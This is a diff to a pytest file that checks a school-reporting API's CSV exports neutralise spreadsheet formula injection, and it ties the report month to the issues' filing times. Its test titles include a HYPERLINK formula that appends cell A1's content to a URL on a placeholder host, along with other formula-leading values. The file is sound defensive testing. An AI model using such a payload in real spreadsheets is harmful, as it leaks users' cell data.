@@ -7,11 +7,9 @@
 import csv
 import io
 import re
-from datetime import datetime
-
 import pytest
 
-from dlapi import ICT, assert_json, describe, file_issue
+from dlapi import ICT, assert_json, describe, file_issue, parse_time
 
 HOSTILE_TITLES = [
     '=HYPERLINK("http://x.invalid/?q="&A1,"Bấm vào đây")',
@@ -30,13 +28,14 @@ ORDINARY_TITLE = "Thiếu giáo viên Tiếng Anh, khối 3"
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
-def this_month():
-    return datetime.now(ICT).strftime("%Y-%m")
+def month_of(issue):
+    """The report month an issue is counted in: its filing time's, in ICT."""
+    return parse_time(issue["created_at"]).astimezone(ICT).strftime("%Y-%m")
 
 
-def csv_report(client, part):
+def csv_report(client, part, month):
     r = client.get("/api/reports/monthly",
-                   params={"month": this_month(), "format": "csv", "part": part})
+                   params={"month": month, "format": "csv", "part": part})
     assert r.status_code == 200, describe(r)
     assert r.content.startswith(b"\xef\xbb\xbf"), r.content[:20]
     return r.content[3:].decode("utf-8")
@@ -61,30 +60,37 @@ def assert_no_formula_cell(text):
 
 @pytest.fixture(scope="module")
 def filed(app):
+    """(principal, {title: ref}, the report month they are all in). The month comes from
+    the issues, not the clock: a run across a month's end (17:00 UTC) files them again,
+    all in the new month."""
     principal = app.login("ht.th031")
-    refs = {}
-    for title in HOSTILE_TITLES + [ORDINARY_TITLE]:
-        refs[title] = file_issue(principal, title=title,
-                                 description="Kiểm tra xuất CSV an toàn.")["ref"]
-    return principal, refs
+    for _ in range(2):
+        refs, months = {}, set()
+        for title in HOSTILE_TITLES + [ORDINARY_TITLE]:
+            issue = file_issue(principal, title=title, description="Kiểm tra xuất CSV an toàn.")
+            refs[title] = issue["ref"]
+            months.add(month_of(issue))
+        if len(months) == 1:
+            return principal, refs, months.pop()
+    raise AssertionError(f"issues filed a moment apart fell in months {sorted(months)}")
 
 
 def test_titles_kept_verbatim_in_json(app, filed):
-    principal, refs = filed
+    principal, refs, month = filed
     for title, ref in refs.items():
         issue = assert_json(principal.get(f"/api/issues/{ref}"), 200)
         assert issue["title"] == title
     report = assert_json(principal.get("/api/reports/monthly",
-                                       params={"month": this_month()}), 200)
+                                       params={"month": month}), 200)
     titles = {i["ref"]: i["title"] for i in report["issues"]}
     assert all(titles[ref] == title for title, ref in refs.items()), titles
 
 
 def test_issues_csv_neutralises_formulas(app, filed):
-    principal, refs = filed
+    principal, refs, month = filed
     officer = app.login("cb.gdth1")
     for who in (principal, officer):
-        text = csv_report(who, "issues")
+        text = csv_report(who, "issues", month)
         assert_no_formula_cell(text)
         rows = rows_of(text)
         by_ref = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
@@ -97,7 +103,7 @@ def test_issues_csv_neutralises_formulas(app, filed):
             assert readable == title, (title, got)
             assert got != title, f"{title!r} was written raw"
         assert by_ref[refs[ORDINARY_TITLE]]["title"] == ORDINARY_TITLE
-    raw = csv_report(principal, "issues")
+    raw = csv_report(principal, "issues", month)
     assert '"\'=HYPERLINK(""http://x.invalid/?q=""&A1,""Bấm vào đây"")"' in raw
 
 
@@ -106,6 +112,6 @@ def test_summary_csv_neutralises_an_admins_names(app, filed):
     admin = app.login("admin")
     r = admin.send_json("PATCH", "/api/schools/TH031", {"name": "=1+2 Trường Tiểu học"})
     assert r.status_code == 200, describe(r)
-    text = csv_report(app.login("cb.gdth1"), "summary")
+    text = csv_report(app.login("cb.gdth1"), "summary", filed[2])
     assert_no_formula_cell(text)
     assert ["school", "TH031", "'=1+2 Trường Tiểu học"] in [r[:3] for r in rows_of(text)]
